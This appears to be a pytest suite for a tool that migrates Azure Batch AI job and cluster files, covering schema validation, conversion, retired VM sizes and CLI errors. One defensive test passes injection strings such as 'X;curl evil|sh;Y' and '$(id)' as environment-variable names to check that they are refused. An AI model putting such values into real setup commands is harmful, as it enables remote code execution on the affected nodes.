"""Batch AI migration over every corpus file: validation agrees with Microsoft's schemas,
each file converts, every field is accounted for, and the outputs load in their consumers."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT4
from typer.testing import CliRunner

from components.config import SECRETS_FROM_FILE, ClusterConfig, DatastoreConfig
from jobrunner.errors import ConfigError
from jobrunner.spec.job import load_job
from tests.corpus import BATCHAI as CORPUS
from tests.corpus import OWN_BATCHAI, batchai_files, needs_corpus
from trainstack.batchai.convert import migrate
from trainstack.batchai.render import uncovered
from trainstack.batchai.schema import load, schema_problems
from trainstack.cli import app

# The project's own files first (written from the schemas), then the corpus's when it is there.
JOBS = batchai_files("jobs")
CLUSTERS = batchai_files("clusters")
ARM = "https://schema.management.azure.com/schemas/2015-01-01/deploymentTemplate.json"


def real_validator(name: str) -> jsonschema.Draft4Validator:
    """Microsoft's schema, its ARM expression `$ref` resolved offline."""
    arm = {"definitions": {"expression": {"type": "string", "pattern": r"^\[([^\[].*)?\]$"}}}
    registry = Registry().with_resource(ARM, Resource.from_contents(arm, default_specification=DRAFT4))
    schema = json.loads((CORPUS / "schemas" / f"{name}.json").read_text())
    return jsonschema.Draft4Validator(schema, registry=registry)


def as_cli_sent(data: dict[str, Any]) -> dict[str, Any]:
    """What `az batchai job create` sent: it filled each mount's accountName and credentials
    from --storage-account-name/--storage-account-key before the service saw the file."""
    sent = copy.deepcopy(data)
    volumes = sent.get("properties", {}).get("mountVolumes", {})
    for share in volumes.get("azureFileShares", []):
        share.setdefault("accountName", share["azureFileUrl"].split("//")[1].split(".")[0])
        share.setdefault("credentials", {"accountKey": "k"})
    for blob in volumes.get("azureBlobFileSystems", []):
        blob.setdefault("credentials", {"accountKey": "k"})
    return sent


@pytest.mark.parametrize("path", JOBS + CLUSTERS, ids=lambda p: p.name)
def test_file_is_valid_for_our_schema(path: Path) -> None:
    data = json.loads(path.read_text())
    kind = "job" if path.parent.name == "jobs" else "cluster"
    assert list(schema_problems(data, kind, file=str(path))) == []


@needs_corpus
@pytest.mark.parametrize("path", JOBS + CLUSTERS, ids=lambda p: p.name)
def test_file_is_valid_for_microsofts_schema(path: Path) -> None:
    data = json.loads(path.read_text())
    kind = "job" if path.parent.name == "jobs" else "cluster"
    assert list(real_validator(kind).iter_errors(as_cli_sent(data))) == []


def _broken_variants(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    out = []
    for field, value in (
        ("nodeCount", "2"),
        ("nodeCount", None),
        ("schedulingPriority", "urgent"),
        ("inputDirectories", {"id": "X"}),
        ("outputDirectories", [{"id": "X"}]),
        ("environmentVariables", [{"name": "A"}]),
        ("jobPreparation", {}),
        ("containerSettings", {"shmSize": "1g"}),
        ("constraints", "7d"),
    ):
        broken = copy.deepcopy(data)
        broken["properties"][field] = value
        out.append((field, broken))
    for toolkit in ("tensorFlowSettings", "pyTorchSettings", "horovodSettings", "chainerSettings"):
        broken = copy.deepcopy(data)
        broken["properties"][toolkit] = {"commandLineArgs": "x"}  # no pythonScriptFilePath
        out.append((toolkit, broken))
    return out


BROKEN_JOBS = _broken_variants(json.loads(JOBS[0].read_text()))
BROKEN_CLUSTERS = [
    ({"vmPriority": "low"}, "properties.vmPriority"),
    ({"scaleSettings": {"manual": {}}}, "properties.scaleSettings.manual.targetNodeCount"),
    ({"userAccountSettings": {"adminUserSshPublicKey": "k"}}, "properties.userAccountSettings.adminUserName"),
    ({"subnet": {}}, "properties.subnet.id"),
]


def _broken_cluster(patch: dict[str, Any]) -> dict[str, Any]:
    data = json.loads(CLUSTERS[0].read_text())
    data["properties"].update(patch)
    return data  # type: ignore[no-any-return]


@pytest.mark.parametrize("field,broken", BROKEN_JOBS)
def test_broken_job_is_refused_by_our_schema(field: str, broken: dict[str, Any]) -> None:
    problems = list(schema_problems(broken, "job", file="job.json"))
    assert problems and all(p.field.startswith(f"properties.{field}") for p in problems)


@needs_corpus
@pytest.mark.parametrize("field,broken", BROKEN_JOBS)
def test_broken_job_is_refused_by_microsofts_schema(field: str, broken: dict[str, Any]) -> None:
    assert list(real_validator("job").iter_errors(as_cli_sent(broken)))


@pytest.mark.parametrize("patch,expected", BROKEN_CLUSTERS)
def test_broken_cluster_is_refused_by_our_schema(patch: dict[str, Any], expected: str) -> None:
    assert [p.field for p in schema_problems(_broken_cluster(patch), "cluster", file="c.json")] == [expected]


@needs_corpus
@pytest.mark.parametrize("patch,expected", BROKEN_CLUSTERS)
def test_broken_cluster_is_refused_by_microsofts_schema(patch: dict[str, Any], expected: str) -> None:
    assert list(real_validator("cluster").iter_errors(_broken_cluster(patch)))


def test_unknown_key_says_did_you_mean(tmp_path: Path) -> None:
    data = json.loads(JOBS[0].read_text())
    data["properties"]["nodeCont"] = 2
    path = tmp_path / "job.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ConfigError) as err:
        load(path)
    assert (
        str(err.value) == f"{path}: properties.nodeCont: unknown key `nodeCont` (did you mean `nodeCount`?)"
    )


@pytest.mark.parametrize("path", JOBS, ids=lambda p: p.name)
@pytest.mark.parametrize("target", ["pool", "amlcompute"])
def test_every_corpus_job_converts_and_loads(path: Path, target: str, tmp_path: Path) -> None:
    migration = migrate(job=path, target=target)  # type: ignore[arg-type]
    assert all(uncovered(s) == [] for s in migration.sources)
    job_file = tmp_path / "job.yml"
    job_file.write_text(migration.files["job.yml"])
    spec = load_job(job_file)
    props = json.loads(path.read_text())["properties"]
    assert spec.resources.instance_count == props["nodeCount"]
    assert spec.environment is not None
    assert spec.environment.image == props["containerSettings"]["imageSourceRegistry"]["image"]
    assert "$AZ_BATCHAI_OUTPUT_" not in spec.command or not props.get("outputDirectories")
    for d in props.get("outputDirectories", []):
        used = f"$AZ_BATCHAI_OUTPUT_{d['id']}" in path.read_text()
        assert (f"${{{{outputs.{d['id']}}}}}" in spec.command) == used
    assert (spec.trainstack.preparation is not None) == (target == "pool" and "jobPreparation" in props)
    stack = yaml.safe_load(migration.files.get("stack.yaml", "config: {}"))["config"]
    for entry in stack.get("trainstack:datastores", []):
        DatastoreConfig.model_validate(entry, context={SECRETS_FROM_FILE: True})
    assert "MIGRATION.md" in migration.files


@pytest.mark.parametrize(
    "path,script,scripts,model",
    [
        (OWN_BATCHAI / "jobs" / "tensorflow-ps-workers.json", "dist_train.py", "code", "model"),
        pytest.param(
            CORPUS / "jobs" / "tensorflow-gpu-distributed.json",
            "tensorflow/mnist_replica.py",
            "scripts",
            "Models",
            marks=needs_corpus,
        ),
    ],
    ids=lambda v: v.name if isinstance(v, Path) else "",
)
def test_tensorflow_recipe_keeps_roles_and_counts(path: Path, script: str, scripts: str, model: str) -> None:
    migration = migrate(job=path, target="pool")
    job = yaml.safe_load(migration.files["job.yml"])
    props = json.loads(path.read_text())["properties"]["tensorFlowSettings"]
    assert job["distribution"] == {
        "type": "tensorflow",
        "worker_count": props["workerCount"],
        "parameter_server_count": props["parameterServerCount"],
    }
    assert f'"ps "*) python ${{{{inputs.{scripts}}}}}/{script} --' in job["command"]
    assert "--job_name=ps" in job["command"].split(";;")[0]
    # Batch AI's per-job folder is Azure ML's `${{name}}`: each run writes its own outputs.
    assert job["outputs"]["MODEL"]["path"] == f"azureml://datastores/logs/paths/${{{{name}}}}/{model}"


@pytest.mark.parametrize("path", CLUSTERS, ids=lambda p: p.name)
def test_every_corpus_cluster_converts(path: Path) -> None:
    migration = migrate(cluster=path)
    assert all(uncovered(s) == [] for s in migration.sources)
    stack = yaml.safe_load(migration.files["stack.yaml"])["config"]
    (entry,) = stack["trainstack:clusters"]
    key = entry["ssh"]["publicKey"]
    ClusterConfig.model_validate({**entry, "ssh": {**entry["ssh"], "publicKey": key}})
    raw = json.loads(path.read_text())["properties"]
    secret = raw["userAccountSettings"].get("adminUserSshPublicKey")
    assert secret is None or all(secret not in text for text in migration.files.values())


@pytest.mark.parametrize(
    "path,successor,priority,nodes",
    [
        (
            OWN_BATCHAI / "clusters" / "nc12-lowpriority-autoscale.json",
            "Standard_NC16as_T4_v3",
            "LowPriority",
            (0, 4),
        ),
        pytest.param(
            CORPUS / "clusters" / "nc6-lowpriority-manual.json",
            "Standard_NC4as_T4_v3",
            "LowPriority",
            (2, 2),
            marks=needs_corpus,
        ),
    ],
    ids=lambda v: v.name if isinstance(v, Path) else "",
)
def test_retired_size_is_mapped_to_its_successor_and_said_so(
    path: Path, successor: str, priority: str, nodes: tuple[int, int]
) -> None:
    migration = migrate(cluster=path)
    entry = yaml.safe_load(migration.files["stack.yaml"])["config"]["trainstack:clusters"][0]
    assert (entry["vmSize"], entry["priority"], (entry["minNodes"], entry["maxNodes"])) == (
        successor,
        priority,
        nodes,
    )
    fate = migration.sources[0].ledger.fate_of("properties.vmSize")
    assert fate.fate.value == "approximated" and "retired" in fate.note
    assert successor in migration.files["MIGRATION.md"]


def test_node_setup_chooses_the_pool(tmp_path: Path) -> None:
    data = json.loads(CLUSTERS[0].read_text())
    data["properties"]["nodeSetup"] = {
        "setupTask": {
            "commandLine": "apt-get install -y nfs-common",
            "stdOutErrPathPrefix": "$AZ_BATCHAI_MOUNT_ROOT/logs",
        }
    }
    path = tmp_path / "cluster.json"
    path.write_text(json.dumps(data))
    migration = migrate(cluster=path)
    pool = yaml.safe_load(migration.files["stack.yaml"])["config"]["trainstack:pools"][0]
    assert migration.target == "pool"
    assert pool["nodeSetup"] == "apt-get install -y nfs-common"
    assert (pool["priority"], pool["evictionPolicy"]) == ("Spot", "Delete")
    assert (
        migrate(cluster=path, target="amlcompute")
        .sources[0]
        .ledger.fate_of("properties.nodeSetup.setupTask.commandLine")
        .fate.value
        == "unsupported"
    )


@pytest.mark.parametrize(
    "folder", [OWN_BATCHAI, pytest.param(CORPUS, marks=needs_corpus)], ids=["own", "corpus"]
)
def test_cli_folder_and_invalid_file(folder: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["migrate", "batchai", str(folder), "--out", str(tmp_path / "all"), "--json"])
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)
    assert len(rows) == len(list(folder.glob("*/*.json"))) - len(list(folder.glob("schemas/*.json")))
    assert all(r["ok"] for r in rows)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"properties": {"nodeCount": "two", "pyTorchSettings": {}}}))
    result = runner.invoke(app, ["migrate", "batchai", "--job", str(bad), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1
    assert "properties.nodeCount: expected an integer" in result.output
    assert "properties.pyTorchSettings.pythonScriptFilePath: required field is missing" in result.output


@pytest.mark.parametrize("name", ["X;curl evil|sh;Y", "1ST", "A-B", "$(id)"])
def test_environment_variable_names_are_checked_before_they_go_into_node_setup(
    tmp_path: Path, name: str
) -> None:
    data = json.loads(CLUSTERS[0].read_text())
    data["properties"]["nodeSetup"] = {
        "setupTask": {
            "commandLine": "true",
            "stdOutErrPathPrefix": "$AZ_BATCHAI_MOUNT_ROOT/logs",
            "environmentVariables": [{"name": "GOOD_1", "value": "x"}, {"name": name, "value": "y"}],
        }
    }
    path = tmp_path / "cluster.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ConfigError) as caught:
        migrate(cluster=path)
    (problem,) = caught.value.problems
    assert problem.file == str(path)
    assert problem.field == "properties.nodeSetup.setupTask.environmentVariables[1].name"
    assert "not an environment variable name" in problem.message


def test_a_whole_number_too_large_for_its_field_is_a_problem_of_the_file(tmp_path: Path) -> None:
    # 9.2e18 is an integer to JSON Schema and too large for the model: the file is refused
    # with its field named, never a crash
    fixture = Path(__file__).parents[1] / "fixtures" / "batchai" / "jobs" / "chainer-cluster-mount.json"
    data = json.loads(fixture.read_text())
    data["properties"]["nodeCount"] = 9.223372036854776e18
    path = tmp_path / "job.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ConfigError) as caught:
        load(path)
    assert f"{path}: properties.nodeCount" in str(caught.value)
